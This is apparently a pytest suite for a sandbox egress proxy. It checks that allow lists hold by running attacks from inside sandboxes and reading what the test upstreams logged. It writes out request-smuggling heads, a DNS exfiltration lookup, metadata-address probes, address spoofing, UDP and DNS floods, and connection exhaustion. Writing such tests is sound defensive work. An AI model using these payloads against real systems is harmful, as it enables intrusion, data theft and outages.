"""Aether (issue 16, part A): per-sandbox networks whose allow lists hold. Every upstream is a server this
module starts in a network namespace of its own (tests/upstreams.py), on a range the session edge's
operator allows; every attack runs from inside a sandbox, and each check reads what the upstream saw
(its logs), not only what the sandbox was told."""
from __future__ import annotations

import asyncio
import ssl
from pathlib import Path

import pytest

import libdsec
from bus.errors import InvalidRequest, Unsupported
from tests.conftest import UPSTREAM, UPSTREAM_RANGE, extra_edge, long_for


@pytest.fixture(scope="module")
async def vm_node(stack, tmp_path_factory, upstream):
    """A node of microVMs with its own Aether (the session's runs containers only)."""
    async with extra_edge(stack, tmp_path_factory.mktemp("vmnet"), "k-vmnet", 8, backends=["microvm"], aether=True,
                          aether_dns=f"{UPSTREAM}:53", aether_allow_cidr=[UPSTREAM_RANGE]) as st:
        yield st


@pytest.fixture(scope="module")
async def gvisor_node(stack, tmp_path_factory, upstream):
    """A node of gVisor sandboxes with its own Aether."""
    async with extra_edge(stack, tmp_path_factory.mktemp("gvnet"), "k-gvnet", 8, backends=["gvisor"], aether=True,
                          aether_dns=f"{UPSTREAM}:53", aether_allow_cidr=[UPSTREAM_RANGE]) as st:
        yield st


@pytest.fixture(scope="module")
async def fullvm_node(stack, tmp_path_factory, upstream):
    """A node of full VMs with its own Aether."""
    async with extra_edge(stack, tmp_path_factory.mktemp("fvmnet"), "k-fvmnet", 4, backends=["fullvm"], aether=True,
                          aether_dns=f"{UPSTREAM}:53", aether_allow_cidr=[UPSTREAM_RANGE]) as st:
        yield st


@pytest.fixture(params=long_for(["container", "gvisor", "microvm", "fullvm"], "fullvm"))
def kind(request):
    """The kinds with the network capability: a gVisor sandbox's sentry runs its own network stack on its
    sandbox's veth (edge/backends/gvisor/net.py); a VM's (microvm, fullvm) network is a tap in its sandbox's
    namespace, bridged to its veth. The same rules and proxy for all."""
    if request.param != "container":
        request.getfixturevalue({"gvisor": "gvisor_node", "microvm": "vm_node", "fullvm": "fullvm_node"}[request.param])
    return request.param


def seen(logs: Path, name: str) -> str:
    """What an upstream logged so far."""
    path = logs / name
    return path.read_text() if path.exists() else ""


async def sh(sb, command: str) -> tuple[int, str]:
    r = await sb.exec(command, timeout=30)
    return r.exit_code, (r.stdout + r.stderr).decode(errors="replace")


async def tunnel(sb, host: str, first: bytes, port: int = 443) -> tuple[bool, bool]:
    """CONNECT host:port through the sandbox's proxy, then send `first`: (the proxy said 200, a TLS record
    came back)."""
    await sb.write_file("/tmp/first", first)
    code, out = await sh(sb, f"(printf 'CONNECT {host}:{port} HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n'; "
                             f"sleep 0.3; cat /tmp/first; sleep 1) | nc ${{HTTP_PROXY#http://}} > /tmp/got; "
                             "head -c 40 /tmp/got; echo; tail -c +40 /tmp/got | head -c 2 | od -An -tx1")
    return "200 Connection established" in out, out.split("\n")[-2].split()[:2] == ["16", "03"]


async def tls_direct(sb, host: str, hello: bytes, port: int = 443) -> bool:
    """Send a ClientHello straight to host:port (the rules redirect it): whether a TLS record came back."""
    await sb.write_file("/tmp/hello", hello)
    _, out = await sh(sb, f"(cat /tmp/hello; sleep 1) | nc {host} {port} | head -c 2 | od -An -tx1")
    return out.split() == ["16", "03"]


def client_hello(server_name: str) -> bytes:
    """A real TLS ClientHello naming server_name (its first flight, made with Python's ssl)."""
    ctx = ssl.create_default_context()
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(incoming, outgoing, server_hostname=server_name)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


async def test_an_allowed_name_is_reached_and_every_decision_is_on_the_trajectory(client, upstream, kind):
    async with await client.create("busybox", backend=kind, network=libdsec.Network(allow=["allowed.test"])) as sb:
        assert (await client.get(sb.id)).network.allow == ["allowed.test"]
        # through HTTP_PROXY (absolute-form), and transparently (no proxy variables: the rules redirect)
        code, out = await sh(sb, "wget -q -O- http://allowed.test/one")
        assert (code, out) == (0, "host=allowed.test path=/one\n")
        code, out = await sh(sb, "unset http_proxy HTTP_PROXY; wget -q -O- http://allowed.test/two")
        assert (code, out) == (0, "host=allowed.test path=/two\n")
        # TLS, transparently and through CONNECT: the upstream's ServerHello comes back
        assert await tls_direct(sb, "allowed.test", client_hello("allowed.test"))
        assert await tunnel(sb, "allowed.test", client_hello("allowed.test")) == (True, True)
        code, out = await sh(sb, "wget -q -O- http://denied.test/five")
        assert code != 0 and "403" in out
        assert "denied.test" not in seen(upstream, "http.log")
        records = []
        for _ in range(60):   # the proxy reports once a second
            records = [t.record async for t in client.trajectories(sandbox=sb.id, follow=False)
                       if t.record.type == "network"]
            decisions = [d for r in records for d in r.decisions]
            if sum(d["verdict"] == "allowed" for d in decisions) >= 4 and any(d["verdict"] == "denied"
                                                                              for d in decisions):
                break
            await asyncio.sleep(0.25)
        decisions = [d for r in records for d in r.decisions]
        allowed = [d for d in decisions if d["verdict"] == "allowed"]
        assert {d["name"] for d in allowed} == {"allowed.test"} and len(allowed) == 4, decisions
        assert all(d["address"] == UPSTREAM and d["bytes_in"] > 0 and d["bytes_out"] > 0 for d in allowed)
        denied = [d for d in decisions if d["verdict"] == "denied"]
        assert denied and denied[0]["name"] == "denied.test" and "not in the allow list" in denied[0]["reason"]
    # and `dsec replay` prints them
    import os
    import subprocess
    import sys
    out = subprocess.run([os.path.join(os.path.dirname(sys.executable), "dsec"), "replay", "--nats", client.url,
                          "--sandbox", sb.id], capture_output=True, text=True, timeout=60).stdout
    assert "#   denied denied.test:80 (denied.test:80 is not in the allow list)" in out, out
    assert "#   allowed allowed.test:80 (" in out




async def decisions_of(client, sandbox_id: str, want) -> list[dict]:
    """The sandbox's network decisions on its trajectory, once want(decisions) holds (or after 15 s)."""
    decisions: list[dict] = []
    for _ in range(60):
        decisions = [d async for t in client.trajectories(sandbox=sandbox_id, follow=False)
                     if t.record.type == "network" for d in t.record.decisions]
        if want(decisions):
            break
        await asyncio.sleep(0.25)
    return decisions


# (a full VM's network is a microVM's, tap and rules alike; a microVM's tap and gVisor's own network stack
# send through the veth whose namespace holds the container's rules: the same rules, their attacks in CI on a
# container, the other kinds' in `make test-long`; each kind's end-to-end case above, in CI)
@pytest.mark.parametrize("kind", long_for(["container", "gvisor", "microvm"], "gvisor", "microvm"), indirect=True)
async def test_attacks_on_names_are_refused(client, upstream, kind):
    policy = libdsec.Network(allow=["allowed.test", "rebind.test", "proxy.test:3128"])
    async with await client.create("busybox", backend=kind, network=policy) as sb:
        # a denied domain, through the proxy and straight
        for prefix in ("", "unset http_proxy HTTP_PROXY; "):
            code, out = await sh(sb, prefix + "wget -q -O- http://denied.test/a")
            assert code != 0, out
        # an allowed name with a denied Host header, through the proxy and straight
        for prefix in ("", "unset http_proxy HTTP_PROXY; "):
            code, out = await sh(sb, prefix + "wget -q -O- --header 'Host: denied.test' http://allowed.test/b")
            assert code != 0, out
        # a second request of a kept-alive connection to another host
        await sh(sb, "(printf 'GET /c1 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'; sleep 0.3; "
                     "printf 'GET /c2 HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n'; sleep 0.5) | nc allowed.test 80")
        # TLS naming another server than the one allowed: through CONNECT, and straight
        assert await tunnel(sb, "allowed.test", client_hello("denied.test")) == (True, False)
        assert not await tls_direct(sb, "allowed.test", client_hello("denied.test"))
        # DNS: a denied name and a would-be exfiltration name get NXDOMAIN and never leave the node
        for name in ("denied.test", "c2VjcmV0.exfil.test"):
            code, out = await sh(sb, f"nslookup {name}")
            assert "NXDOMAIN" in out, out
        # DNS rebinding: an allowed name that resolves to a private address
        code, out = await sh(sb, "wget -q -O- http://rebind.test/d")
        assert code != 0 and "403" in out, out
        code, out = await sh(sb, "nslookup rebind.test")
        assert "10.77.0.1" not in out.split("Name:")[-1], out
        # a CONNECT chained through an allowed proxy
        await sh(sb, "(printf 'CONNECT denied.test:80 HTTP/1.1\\r\\n\\r\\nGET /e HTTP/1.1\\r\\nHost: denied.test"
                     "\\r\\n\\r\\n'; sleep 0.5) | nc proxy.test 3128")
        log = seen(upstream, "http.log")
        assert "/c1" in log and "denied.test" not in log, log
        assert seen(upstream, "proxy.log") == ""
        dns = seen(upstream, "dns.log").split()
        assert "denied.test" not in dns and "c2VjcmV0.exfil.test" not in dns and "rebind.test" in dns
        wanted = ("10.77.0.1", "CONNECT through another proxy", "is not the CONNECT host")

        def has_all(ds) -> bool:   # the last denial may come a record later than the tenth
            return all(any(w in d.get("reason", "") for d in ds if d["verdict"] == "denied") for w in wanted)
        decisions = await decisions_of(client, sb.id, has_all)
        assert has_all(decisions) and sum(d["verdict"] == "denied" for d in decisions) >= 10, decisions


@pytest.mark.parametrize("kind", long_for(["container", "gvisor", "microvm"], "gvisor", "microvm"), indirect=True)   # (above)
async def test_attacks_on_addresses_are_refused(client, upstream, stack, kind):
    nats_port = stack.url.rsplit(":", 1)[1]
    # A tenant listing the host, its own range or metadata gains nothing: the node's guard refuses them
    greedy = libdsec.Network(allow=["allowed.test", "10.0.0.0/8:1-65535", "198.51.100.1:1-65535", "169.254.0.0/16"])
    async with await client.create("busybox", backend=kind, network=greedy) as sb, \
            await client.create("busybox", backend=kind, network=libdsec.Network(allow=["allowed.test"])) as other:
        _, other_ip = await sh(other, "ip -4 -o addr show eth0 | awk '{print $4}' | cut -d/ -f1")
        _, gateway = await sh(sb, "ip route | awk '/default/ {print $3}'")
        gateway, other_ip = gateway.strip(), other_ip.strip()
        # a container cannot touch its network (no CAP_NET_ADMIN over its namespace, nor over its sentry's
        # network stack under gVisor); a VM's root owns its guest kernel's, and what it changes there gains it
        # nothing: the host's rules are past the tap
        vm = kind in ("microvm", "fullvm")
        for cmd in ("ip route replace default via 198.51.100.1", "ip addr add 10.1.2.3/32 dev eth0",
                    "ip -6 addr add 2001:db8::5/64 dev eth0"):
            code, out = await sh(sb, cmd)
            if not vm:
                assert code != 0 and ("not permitted" in out or "denied" in out), (cmd, out)
        if vm:
            code, out = await sh(sb, f"echo ping | nc -s 10.1.2.3 -w 2 {UPSTREAM} 7000; echo rc=$?")   # spoofed
            assert "ping" not in out and "rc=" in out, out
            code, out = await sh(sb, "ip addr del 10.1.2.3/32 dev eth0 && ip route | grep -c default")
            assert (code, out.strip()) == (0, "1"), out      # its own address and route as they were
        # raw addresses not in the list: upstream, the host's NATS, the gateway, another sandbox, metadata
        for target in (f"{UPSTREAM} 7000", f"{gateway} {nats_port}", f"198.51.100.1 {nats_port}",
                       f"{other_ip} 80", "169.254.169.254 80", "127.0.0.1 1"):
            code, out = await sh(sb, f"echo ping | nc -w 2 {target}; echo rc=$?")
            assert "ping" not in out, (target, out)
        # IPv6: there is none
        code, out = await sh(sb, "nc -w 2 2001:db8::1 80; echo rc=$?")
        assert "rc=1" in out, out
        # a UDP flood, and DNS to another server, after changing /etc/resolv.conf
        await sh(sb, "i=0; while [ $i -lt 300 ]; do echo x | nc -u -w0 198.51.100.2 9999; i=$((i+1)); done")
        code, out = await sh(sb, f"echo nameserver {UPSTREAM} > /etc/resolv.conf; nslookup denied.test; "
                                 f"nslookup denied.test {UPSTREAM}")
        assert out.count("NXDOMAIN") >= 2 and "Permission" not in out and "find denied.test" in out, out
        r = await sb.exec("echo still-fast")   # the node answers as before
        assert r.stdout == b"still-fast\n"
        assert seen(upstream, "udp.log") == "" and "denied.test" not in seen(upstream, "dns.log").split()
        wanted = ("an address of the host", "a sandbox's address", "a private, link-local, shared or reserved address",
                  "7000 is not in the allow list")

        def has_all(ds) -> bool:   # the last denial may come a record later than the sixth
            return all(any(w in d.get("reason", "") for d in ds if d["verdict"] == "denied") for w in wanted)
        decisions = await decisions_of(client, sb.id, has_all)
        assert has_all(decisions), decisions


async def test_a_live_allowlist_change_holds_for_the_next_connection(client, upstream, kind):
    async with await client.create("busybox", backend=kind, network=libdsec.Network(allow=["allowed.test"])) as sb:
        get_other = "wget -q -O- http://other.test/x"
        assert (await sh(sb, get_other))[0] != 0
        await sb.set_network(libdsec.Network(allow=["allowed.test", "other.test"]))
        assert await sh(sb, get_other) == (0, "host=other.test path=/x\n")
        assert (await client.get(sb.id)).network.allow == ["allowed.test", "other.test"]
        for bad in (libdsec.Network(allow=["*"]), libdsec.Network(allow=["a..b"]), "sideways"):
            with pytest.raises(InvalidRequest):
                await sb.set_network(bad)
        assert await sh(sb, get_other) == (0, "host=other.test path=/x\n")   # the old one still holds
        await sb.set_network(libdsec.Network(allow=["allowed.test"]))
        assert (await sh(sb, get_other))[0] != 0
        await sb.set_network("mirror-only")
        assert (await sh(sb, "wget -q -O- http://allowed.test/y"))[0] != 0
        assert (await client.get(sb.id)).network.mode == "mirror-only"
    async with await client.create("busybox") as plain:
        with pytest.raises(Unsupported):
            await plain.set_network(libdsec.Network(allow=["allowed.test"]))


async def test_a_networked_vms_memory_forks_each_get_a_network_of_their_own(client, upstream, vm_node):
    """A microVM's memory snapshot holds its guest's network as it was: each fork's guest is given its own
    end (address, route, proxy) and policy, and the source keeps its own."""
    async with await client.create("busybox", backend="microvm", timeout=120,
                                   network=libdsec.Network(allow=["allowed.test"])) as sb:
        snap = await sb.snapshot(memory=True, timeout=120)
        forks = await client.fork(snap, 2, network=libdsec.Network(allow=["other.test"]), timeout=120)
        try:
            addresses = set()
            for i, f in enumerate(forks):
                code, out = await sh(f, "ip -4 -o addr show eth0 | awk '{print $4}'; echo $HTTP_PROXY; "
                                        f"wget -q -O- http://other.test/f{i}; wget -q -O- http://allowed.test/g{i}")
                address, proxy, served = out.split("\n")[:3]
                assert served == f"host=other.test path=/f{i}" and f"/g{i}" not in seen(upstream, "http.log"), out
                gateway = (await f.exec("ip route | awk '/default/ {print $3}'")).stdout.decode().strip()
                assert address.endswith("/30") and proxy.startswith(f"http://{gateway}:"), out
                resolv = (await f.exec("cat /etc/resolv.conf")).stdout.decode()
                assert resolv.startswith(f"nameserver {gateway}\n"), resolv   # its own, written at create
                addresses.add(address)
            code, out = await sh(sb, "ip -4 -o addr show eth0 | awk '{print $4}'; wget -q -O- http://allowed.test/s")
            addresses.add(out.split("\n")[0])
            assert "host=allowed.test path=/s" in out and len(addresses) == 3, (out, addresses)
        finally:
            await asyncio.gather(*(f.destroy() for f in forks))


async def test_connections_past_the_limit_are_refused(client, upstream):
    policy = libdsec.Network(allow=[f"{UPSTREAM}:7000"], max_connections=2)
    async with await client.create("busybox", network=policy) as sb:
        code, out = await sh(sb, f"for i in 1 2; do (sleep 3 | nc {UPSTREAM} 7000 >/dev/null) & done; sleep 0.5; "
                                 f"echo third | nc -w 2 {UPSTREAM} 7000; wait")
        assert "third" not in out
        code, out = await sh(sb, f"echo fourth | nc -w 2 {UPSTREAM} 7000")
        assert "fourth" in out


async def test_one_tenants_sandboxes_together_leave_the_proxy_to_other_tenants(client, upstream, stack):
    """Helper A3: five sandboxes of one tenant, each holding the most connections one sandbox may (a quarter of
    the proxy's relays), took every fd of the node's proxy: no other tenant's sandbox connected, and DNS
    failed. Now one tenant's sandboxes together hold at most three of those quarters. (The proxy's open-file
    limit is set here so that its share is the floor, 64 connections a sandbox, 192 a tenant, with fds for
    all of them.)"""
    import psutil
    proc = proxy_process(stack)
    soft, hard = proc.rlimit(psutil.RLIMIT_NOFILE)
    proc.rlimit(psutil.RLIMIT_NOFILE, (min(hard, 1800), hard))
    policy = libdsec.Network(allow=[f"{UPSTREAM}:7000"])
    hold = f"for i in $(seq 70); do (sleep 8 | nc {UPSTREAM} 7000 >/dev/null) & done; sleep 1; echo held"
    try:
        async with libdsec.AsyncClient(stack.url, tenant="tenant-b") as other:
            sbs = [await client.create("busybox", network=policy) for _ in range(4)]
            try:
                async with await other.create("busybox", network=policy) as b:
                    held = [asyncio.ensure_future(sh(s, hold)) for s in sbs[:3]]   # 210 asked: 64 each kept
                    await asyncio.sleep(3)
                    assert "fourth" not in (await sh(sbs[3], f"echo fourth | nc -w 2 {UPSTREAM} 7000"))[1]
                    assert "other" in (await sh(b, f"echo other | nc -w 2 {UPSTREAM} 7000"))[1]
                    await asyncio.gather(*held)
            finally:
                await asyncio.gather(*(s.destroy() for s in sbs))
    finally:
        proc.rlimit(psutil.RLIMIT_NOFILE, (soft, hard))


async def test_one_sandboxs_dns_flood_is_answered_only_at_its_rate(client, upstream, hostile):
    """Helper A3: one sandbox's 300,000 DNS questions in 25 s, on the node's one resolver socket, made other
    tenants' lookups fail and stall 2 s. Now a sandbox's questions past QUERY_RATE a second (after a burst of
    QUERY_BURST) are dropped unread: 3,000 sent at once get about QUERY_BURST answers (every one before)."""
    from aether.policy import QUERY_BURST
    async with await client.create("busybox", network=libdsec.Network(allow=["allowed.test"])) as sb:
        await sb.files.write("/tmp/hostile", hostile, mode=0o755)
        code, out = await sh(sb, "/tmp/hostile dnsflood $(awk '/^nameserver/ {print $2}' /etc/resolv.conf) 3000")
        assert code == 0 and 0 < int(out) < QUERY_BURST * 1.6, out   # (old: 832 answered here)
        assert (await sh(sb, "sleep 2; nslookup allowed.test"))[0] == 0   # its rate back, it resolves again


def proxy_process(stack):
    import psutil
    return psutil.Process(stack.edge.network.aether._proc.pid)


async def fds_back_to(proc, count: int, within: float = 5.0) -> int:
    """The proxy's open fds once they are back to count (or what they are after `within` seconds)."""
    for _ in range(int(within / 0.05)):
        if proc.num_fds() <= count:
            break
        await asyncio.sleep(0.05)
    return proc.num_fds()


async def test_a_proxy_out_of_file_descriptors_serves_again_once_it_has_them(client, upstream, stack):
    """One sandbox holding relays until the proxy ran out of fds (6 a relay) ended the proxy's accept loop
    for good at its first EMFILE, silently: from then on no sandbox of the node connected anywhere (the
    process lived on, so it was never restarted). Now the loop pauses while out of fds and goes on.
    (Its open-file limit is lowered here so that 80 unfinished requests, one fd each, reach it.)"""
    import psutil
    proc = proxy_process(stack)
    soft, hard = proc.rlimit(psutil.RLIMIT_NOFILE)
    base = proc.num_fds()
    proc.rlimit(psutil.RLIMIT_NOFILE, (base + 60, hard))
    try:
        async with await client.create("busybox", network=libdsec.Network(allow=["allowed.test"])) as a, \
                await client.create("busybox", network=libdsec.Network(allow=["allowed.test"])) as b:
            code, out = await sh(a, "for i in $(seq 80); do ((printf 'GET / HTTP/1.1\\r\\n'; sleep 2) | "
                                    "nc allowed.test 80 >/dev/null) & done; wait; echo held")
            assert code == 0 and "held" in out, out
            assert await fds_back_to(proc, base + 2) <= base + 2
            assert await sh(b, "timeout 10 wget -q -O- http://allowed.test/after") == \
                (0, "host=allowed.test path=/after\n")
    finally:
        proc.rlimit(psutil.RLIMIT_NOFILE, (soft, hard))


async def test_a_request_cut_short_frees_its_upstream_connection(client, upstream, stack):
    """A request whose sandbox closed its connection inside the body (fewer bytes than its Content-Length)
    left the upstream connection open, waiting for the rest, until the upstream gave up, past the
    sandbox's own end and outside its connection limit: the proxy ran out of fds that way. Now it ends."""
    proc = proxy_process(stack)
    async with await client.create("busybox", network=libdsec.Network(allow=["allowed.test"])) as sb:
        assert await sh(sb, "wget -q -O- http://allowed.test/warm") == (0, "host=allowed.test path=/warm\n")
        base = proc.num_fds()
        code, out = await sh(sb, "printf 'POST /cut HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 1000\\r\\n"
                                 "\\r\\nabc' | nc -w 1 allowed.test 80; echo rc=$?")
        assert "rc=" in out, out
        assert await fds_back_to(proc, base) <= base, "the proxy still holds the cut request's connections"
        decisions = await decisions_of(client, sb.id, lambda ds: any("in a request's body" in d.get("reason", "")
                                                                     for d in ds))
        assert any(d["verdict"] == "failed" and "in a request's body" in d.get("reason", "") for d in decisions), \
            decisions
    assert "POST /cut" in seen(upstream, "http.log")


async def test_a_revoked_name_ends_the_connections_open_to_it(client, upstream):
    """An allow list change held for the next connection only: one open before went on for as long as it
    lasted (a raw relay: for ever). Now the connections the new list no longer allows end at the change,
    recorded so; the others go on."""
    policy = libdsec.Network(allow=[f"{UPSTREAM}:7000", "allowed.test"])
    async with await client.create("busybox", network=policy) as sb:
        held = await sb.exec(f"(echo one; sleep 30) | nc {UPSTREAM} 7000", background=True)
        states = "awk '$3 ~ /:1B58$/ {print $4}' /proc/net/tcp"     # its socket to port 7000, as the sandbox sees it
        for _ in range(50):
            if (await sb.exec(states)).stdout == b"01\n":          # ESTABLISHED
                break
            await asyncio.sleep(0.1)
        else:
            raise AssertionError("the relay did not open")
        await sb.set_network(libdsec.Network(allow=["allowed.test"]))
        for _ in range(50):                                         # the proxy closed its end: CLOSE_WAIT
            if (now := (await sb.exec(states)).stdout) != b"01\n":
                break
            await asyncio.sleep(0.1)
        assert now in (b"08\n", b""), now
        await held.kill()
        assert await sh(sb, "wget -q -O- http://allowed.test/kept") == (0, "host=allowed.test path=/kept\n")
        decisions = await decisions_of(client, sb.id, lambda ds: any("no longer" in d.get("reason", "") for d in ds))
        cut = [d for d in decisions if "no longer" in d.get("reason", "")]
        assert cut and cut[0]["address"] == UPSTREAM and cut[0]["port"] == 7000, decisions


async def test_a_name_revoked_while_its_connection_is_being_decided_is_refused(client, upstream):
    """A CONNECT allowed, then waiting for its tunnel's first bytes, was not yet `decided` when the policy
    changed, so the change passed it by: once the ClientHello came, the tunnel relayed under the revoked
    policy. Now a connection is checked again the moment it is decided."""
    await_hello = client_hello("allowed.test")
    async with await client.create("busybox", network=libdsec.Network(allow=["allowed.test", "other.test"])) as sb:
        await sb.write_file("/tmp/hello", await_hello)
        held = await sb.exec("(printf 'CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n'; "
                             "sleep 2; cat /tmp/hello; sleep 1) | nc ${HTTP_PROXY#http://} | head -c 40", background=True)
        await asyncio.sleep(1.0)
        await sb.set_network(libdsec.Network(allow=["other.test"]))
        out = (await held.wait()).stdout
        assert out.startswith(b"HTTP/1.1 200"), out     # the CONNECT was allowed before the change
        decisions = await decisions_of(client, sb.id, lambda ds: any("no longer" in d.get("reason", "") for d in ds))
        assert any(d["verdict"] == "denied" and d["name"] == "allowed.test" and "no longer" in d.get("reason", "")
                   for d in decisions), decisions
        assert not any(d["verdict"] == "allowed" and d["name"] == "allowed.test" for d in decisions), decisions


async def test_a_request_smuggled_past_the_host_check_never_reaches_the_upstream(client, upstream):
    """A request head with bare LFs inside (split by the proxy at CRLF only, read as two requests by a
    server that ends lines at LF too), or an absolute target in another spelling, named another host of the
    same address: refused, and the upstream saw neither."""
    async with await client.create("busybox", network=libdsec.Network(allow=["allowed.test"])) as sb:
        for i, head in enumerate(("GET /s1 HTTP/1.1\\r\\nHost: allowed.test\\r\\nX: a\\n\\nGET /smuggled1 HTTP/1.1\\n"
                                  "Host: other.test\\n\\nZ: z\\r\\n\\r\\n",
                                  "GET HTTP://other.test/smuggled2 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n",
                                  "GET https://other.test/smuggled3 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n")):
            code, out = await sh(sb, f"printf '{head}' | nc -w 2 allowed.test 80; echo")
            assert "403 Forbidden" in out and "host=" not in out, (i, out)
    log = seen(upstream, "http.log")
    assert "smuggled" not in log and "other.test /s" not in log, log


async def test_a_killed_proxy_is_started_again_with_every_policy(client, upstream, stack):
    aether = stack.edge.network.aether
    async with await client.create("busybox", network=libdsec.Network(allow=["allowed.test"])) as sb:
        assert await sh(sb, "wget -q -O- http://allowed.test/before") == (0, "host=allowed.test path=/before\n")
        old = aether._proc
        old.kill()
        code, out = await sh(sb, "wget -q -O- http://allowed.test/during; echo rc=$?")   # refused or served,
        assert "rc=" in out                                                              # never hangs
        for _ in range(100):
            if aether._proc is not old and aether._ready.is_set():
                break
            await asyncio.sleep(0.05)
        assert aether._proc is not old and aether._proc.poll() is None
        assert await sh(sb, "wget -q -O- http://allowed.test/after") == (0, "host=allowed.test path=/after\n")
        assert (await sh(sb, "wget -q -O- http://other.test/x"))[0] != 0          # its policy came back whole
        await sb.set_network(libdsec.Network(allow=["allowed.test", "other.test"]))
        assert await sh(sb, "wget -q -O- http://other.test/y") == (0, "host=other.test path=/y\n")


async def test_bandwidth_is_capped_both_ways_and_changes_live(client, upstream):
    import time
    three = 3 << 20
    async with await client.create("busybox", network=libdsec.Network(allow=["allowed.test"],
                                                                      bandwidth="1Mi")) as sb:
        await sb.exec(f"head -c {three} /dev/zero > /tmp/up")
        post = (f"(printf 'POST /post HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: {three}\\r\\n"
                f"Connection: close\\r\\n\\r\\n'; cat /tmp/up) | nc allowed.test 80")   # (busybox wget only GETs)
        for command in (f"wget -q -O /dev/null http://allowed.test/bytes/{three}", post):   # down, up
            t0 = time.monotonic()
            r = await sb.exec(command, timeout=60)
            assert r.exit_code == 0 and (command != post or b" 200 OK" in r.stdout), r
            assert time.monotonic() - t0 > 2.0, command   # 3 MiB at 1 MiB/s: never faster than the cap
        assert f"body {three}" in seen(upstream, "http.log")
        await sb.set_network(libdsec.Network(allow=["allowed.test"], bandwidth="200Mi"))
        t0 = time.monotonic()
        r = await sb.exec(f"wget -q -O /dev/null http://allowed.test/bytes/{three}", timeout=60)
        assert r.exit_code == 0 and time.monotonic() - t0 < 2.0
